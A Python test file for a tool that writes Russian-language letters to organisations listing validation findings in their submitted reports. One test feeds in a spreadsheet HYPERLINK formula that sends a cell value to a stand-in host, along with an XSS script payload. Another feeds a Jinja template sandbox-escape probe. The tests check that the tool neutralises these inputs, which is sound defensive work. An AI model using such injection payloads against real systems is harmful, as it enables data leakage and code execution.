@@ -1,0 +1,313 @@
+"""Letters to the organisations: open root errors and warnings, by sheet, errors first."""
+
+from __future__ import annotations
+
+import datetime as dt
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from docx import Document
+from openpyxl import load_workbook
+
+from checks.batch import BatchResult, validate
+from checks.letters import (
+    LetterTemplateError,
+    compose,
+    figure,
+    load_template,
+    plural,
+    write_letters,
+)
+from checks.reader import read_submission
+from flows.cli import main
+from tests.builders import submission
+
+TODAY = dt.date(2026, 3, 2)
+ORGANISATION = "АО «Тест-Энергосбыт»"
+PASSPORT = [
+    ["Организация", ORGANISATION],
+    ["ИНН", "7707083893"],
+    ["Отчетный год", 2025],
+    ["Дата представления", "вчера"],
+]
+APPEALS = [
+    ["Канал", "Север", "Юг", "Итого"],
+    ["Контакт-центр", 1000, 500, 1600],
+    ["Неведомый канал", 3, 3, 6],
+    ["Всего", 1000, 500, 1500],
+]
+TIMES = [
+    ["Период", "Канал", "Ожидание"],
+    ["Год", "Контакт-центр", "2:01"],
+    ["Год", "Очное обслуживание", "0:07:31"],
+    ["Год", "Онлайн-ЦОК", "когда-то"],
+]
+MEASURES = [["Раздел", "Мероприятие", "Срок"], ["Обучение", "Курсы", "когда-нибудь"]]
+
+
+def batch(*paths: Path) -> BatchResult:
+    """Validate the files as one batch."""
+    return validate([read_submission(p) for p in paths])
+
+
+def report(tmp_path: Path, name: str = "report.xlsx", **sheets: list[list[object]]) -> Path:
+    """A report of the test organisation with an error-bearing ``Обращения`` and more."""
+    content: dict[str, list[list[object]]] = {
+        "passport": PASSPORT,
+        "appeals": APPEALS,
+        "times": TIMES,
+        "measures": MEASURES,
+    }
+    content.update(sheets)
+    return submission(tmp_path / name, **content)
+
+
+def with_cause(
+    findings: pd.DataFrame, follower: tuple[str, str], root: tuple[str, str]
+) -> pd.DataFrame:
+    """Add the ``cause`` column: the finding at ``follower`` (sheet, cell) follows from ``root``."""
+
+    def at(where: tuple[str, str]) -> pd.Series:
+        return (findings["sheet"] == where[0]) & (findings["cell"] == where[1])
+
+    root_fingerprint = findings.loc[at(root), "fingerprint"].iloc[0]
+    cause = pd.Series("", index=findings.index).where(~at(follower), root_fingerprint)
+    position = list(findings.columns).index("status") + 1
+    marked = findings.copy()
+    marked.insert(position, "cause", cause)
+    return marked
+
+
+def rows(path: Path) -> list[tuple[str, list[list[str]]]]:
+    """The letter's headings of level 2, each with its table's rows."""
+    document = Document(str(path))
+    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
+    tables = [[[c.text for c in row.cells] for row in t.rows] for t in document.tables]
+    return list(zip(headings, tables, strict=True))
+
+
+def text_of(path: Path) -> str:
+    """Every paragraph's and table cell's text, one per line."""
+    document = Document(str(path))
+    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
+    return "\n".join([*(p.text for p in document.paragraphs), *cells])
+
+
+def test_letter_lists_root_findings_by_sheet_errors_first(tmp_path: Path) -> None:
+    """The letter names the organisation and year and lists each root finding where it is."""
+    result = batch(report(tmp_path))
+    findings = with_cause(result.findings, ("Обращения", "D4"), ("Обращения", "D2"))
+    written = write_letters(findings, result.submissions, tmp_path / "out", today=TODAY)
+    assert written == {"report.xlsx": "letters/report.docx"}
+    letter = tmp_path / "out" / "letters" / "report.docx"
+    document = Document(str(letter))
+    addressee = [p for p in document.paragraphs if p.text == ORGANISATION]
+    assert addressee
+    assert addressee[0].alignment is not None
+    title = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
+    assert title == ["О замечаниях к отчёту о качестве обслуживания потребителей за 2025 год"]
+    assert "02.03.2026" in text_of(letter)
+    layout = [(heading, [row[:4] for row in table[1:]]) for heading, table in rows(letter)]
+    assert layout == [
+        (
+            "Лист «Обращения»",
+            [
+                ["D2", "Ошибка", "1\u00a0600", "1\u00a0500"],
+                ["A3", "Ошибка", "Неведомый канал", "—"],
+            ],
+        ),
+        (
+            "Лист «Время»",
+            [
+                ["C4", "Ошибка", "когда-то", "—"],
+                ["C2", "Предупреждение", "2:01", "0:02:01"],
+            ],
+        ),
+        ("Лист «Паспорт»", [["B4", "Предупреждение", "вчера", "—"]]),
+        ("Лист «Мероприятия»", [["C2", "Предупреждение", "когда-нибудь", "—"]]),
+    ]
+    body = text_of(letter)
+    assert "найдено: 3 ошибки и 3 предупреждения" in body
+    assert "Ещё 1 замечание следует из перечисленных" in body
+    assert "D4" not in [row[0] for _, table in rows(letter) for row in table]
+
+
+def test_without_cause_every_finding_is_a_root(tmp_path: Path) -> None:
+    """A findings table without ``cause`` (before root findings exist) lists every finding."""
+    result = batch(report(tmp_path))
+    assert "cause" not in result.findings.columns
+    (letter,) = compose(result.findings, result.submissions, TODAY)
+    cells = [(f.sheet, f.cell) for sheet in letter.sheets for f in sheet.findings]
+    assert ("Обращения", "D4") in cells
+    assert (letter.errors, letter.follow_ons) == (4, 0)
+
+
+def test_infos_waived_and_superseded_get_no_letter(tmp_path: Path) -> None:
+    """Infos and waived findings are left out; an older version and a clean report get none."""
+    older = report(
+        tmp_path, "old.xlsx", passport=[*PASSPORT[:3], ["Дата представления", "01.02.2026"]]
+    )
+    newer = report(
+        tmp_path,
+        "new.xlsx",
+        passport=[*PASSPORT[:3], ["Дата представления", "01.03.2026"]],
+        appeals=[["Канал", "Итого"], ["Контакт-центр", 5], ["Всего", 5]],
+    )
+    clean = submission(
+        tmp_path / "clean.xlsx",
+        passport=[["Организация", "ООО «Чистый»"], ["Отчетный год", 2025]],
+        appeals=[["Канал", "Итого"], ["Контакт-центр", 5], ["Всего", 5]],
+    )
+    result = batch(older, newer, clean)
+    assert set(result.findings[result.findings["submission"] == "clean.xlsx"]["severity"]) == {
+        "info"
+    }
+    findings = result.findings.copy()
+    waived = (findings["submission"] == "new.xlsx") & (findings["sheet"] == "Мероприятия")
+    findings.loc[waived, "status"] = "waived"
+    written = write_letters(findings, result.submissions, tmp_path / "out", today=TODAY)
+    assert list(written) == ["new.xlsx"]
+    layout = [heading for heading, _ in rows(tmp_path / "out" / written["new.xlsx"])]
+    assert layout == ["Лист «Время»"]
+
+
+def test_a_letter_that_no_longer_applies_is_removed(tmp_path: Path) -> None:
+    """A letter of an earlier run goes when the company's report has nothing open any more."""
+    result = batch(report(tmp_path))
+    out = tmp_path / "out"
+    write_letters(result.findings, result.submissions, out, today=TODAY)
+    assert (out / "letters" / "report.docx").exists()
+    closed = result.findings.assign(status="waived")
+    assert write_letters(closed, result.submissions, out, today=TODAY) == {}
+    assert not (out / "letters" / "report.docx").exists()
+
+
+HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1;"клик")'
+SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'
+
+
+def test_submitted_text_stays_text(tmp_path: Path) -> None:
+    """Formulas, markup and the template's own marks from a submission show literally."""
+    path = submission(
+        tmp_path / "hostile.xlsx",
+        passport=[["Организация", f"# {SCRIPT} | **x**"], ["Отчетный год", 2025]],
+        appeals=[["Канал", "Итого"], ["label", 5], ["Всего", 5]],
+    )
+    workbook = load_workbook(path)
+    label = workbook["Обращения"]["A2"]
+    label.value = HOSTILE
+    label.data_type = "s"  # typed as text, as Excel keeps '=… entered after an apostrophe
+    workbook.save(path)
+    result = batch(path)
+    written = write_letters(result.findings, result.submissions, tmp_path / "out", today=TODAY)
+    letter = tmp_path / "out" / written["hostile.xlsx"]
+    document = Document(str(letter))
+    assert [p.text for p in document.paragraphs if p.style.name == "Heading 1"] == [
+        "О замечаниях к отчёту о качестве обслуживания потребителей за 2025 год"
+    ]
+    assert any(p.text == f"# {SCRIPT} | **x**" for p in document.paragraphs)
+    ((_, table),) = rows(letter)
+    assert [row[2] for row in table[1:]] == [HOSTILE]
+    with zipfile.ZipFile(letter) as package:
+        xml = package.read("word/document.xml").decode("utf-8")
+    assert "instrText" not in xml
+    assert "fldSimple" not in xml
+    assert "<script>" not in xml
+    assert "&lt;script&gt;" in xml
+
+
+def test_steward_template_changes_the_wording(tmp_path: Path) -> None:
+    """A template file of the steward's is used, with its marks: heading, table widths, bold."""
+    template = tmp_path / "письмо.txt"
+    template.write_text(
+        "# Уведомление для {{ organisation }}\n"
+        "{% for f in findings %}\n"
+        "- **{{ f.kind }}** в {{ f.sheet }}!{{ f.cell }}\n"
+        "{% endfor %}\n"
+        "| Ячейка | Сообщение |\n"
+        "|-|---|\n"
+        "{% for f in findings %}\n"
+        "| {{ f.cell }} | {{ f.message }} |\n"
+        "{% endfor %}\n",
+        encoding="utf-8",
+    )
+    result = batch(report(tmp_path))
+    written = write_letters(result.findings, result.submissions, tmp_path / "out", template)
+    document = Document(str(tmp_path / "out" / written["report.xlsx"]))
+    assert document.paragraphs[0].text == f"Уведомление для {ORGANISATION}"
+    bullets = [p for p in document.paragraphs if p.style.name == "List Bullet"]
+    assert bullets[0].text == "Ошибка в Обращения!D2"
+    assert bullets[0].runs[0].bold
+    (table,) = document.tables
+    widths = [column.width for column in table.columns]
+    assert widths[1] == 3 * widths[0]
+    assert table.cell(1, 0).text == "D2"
+
+
+@pytest.mark.parametrize(
+    ("text", "where"),
+    [
+        pytest.param("{% for f in findings %}\n{{ f.cell }\n", "строка 2", id="syntax"),
+        pytest.param("Уважаемые {{ organization }}!\n", "organization", id="unknown-name"),
+        pytest.param("{{ ''.__class__ }}\n", "__class__", id="sandbox"),
+    ],
+)
+def test_broken_template_is_refused_before_the_run(tmp_path: Path, text: str, where: str) -> None:
+    """A template that fails on a sample letter is refused, saying where."""
+    template = tmp_path / "letter.txt"
+    template.write_text(text, encoding="utf-8")
+    with pytest.raises(LetterTemplateError, match=where):
+        load_template(template)
+
+
+def test_broken_template_is_a_usage_error(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """``sverka run --letter-template`` with a broken file exits 2 before any work, in Russian."""
+    template = tmp_path / "letter.txt"
+    template.write_text("{{ organisation }\n", encoding="utf-8")
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    argv = ["run", "--inbox", str(inbox), "--out", str(tmp_path / "out")]
+    with pytest.raises(SystemExit) as exit_info:
+        main([*argv, "--letter-template", str(template)])
+    assert exit_info.value.code == 2
+    assert (
+        "аргумент --letter-template: шаблон письма letter.txt, строка 1" in capsys.readouterr().err
+    )
+    assert not (tmp_path / "out").exists()
+
+
+def test_default_template_is_in_the_package() -> None:
+    """The default template loads from the installed package and renders its sample."""
+    template = load_template()
+    assert template.name == "letter.txt"
+    assert "Уважаемые коллеги!" in template.source
+
+
+@pytest.mark.parametrize(
+    ("count", "expected"),
+    [(1, "1 ошибка"), (3, "3 ошибки"), (5, "5 ошибок"), (11, "11 ошибок"), (21, "21 ошибка"),
+     (112, "112 ошибок"), (0, "0 ошибок")],
+)  # fmt: skip
+def test_plural_agrees_with_the_count(count: int, expected: str) -> None:
+    """A count takes the Russian form of the word that agrees with it."""
+    assert plural(count, "ошибка", "ошибки", "ошибок") == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "family", "expected"),
+    [
+        ("5178765", "total", "5\u00a0178\u00a0765"),
+        ("-4003597", "total", "-4\u00a0003\u00a0597"),
+        ("0.04", "share", "0,04\u00a0%"),
+        ("0:00:31", "time-format", "0:00:31"),
+        ("12 345", "structure", "12 345"),
+        ("=1+2", "structure", "=1+2"),
+    ],
+)
+def test_figure_is_written_the_russian_way(text: str, family: str, expected: str) -> None:
+    """Numbers are grouped and take a comma; anything else is left as written."""
+    assert figure(text, family) == expected
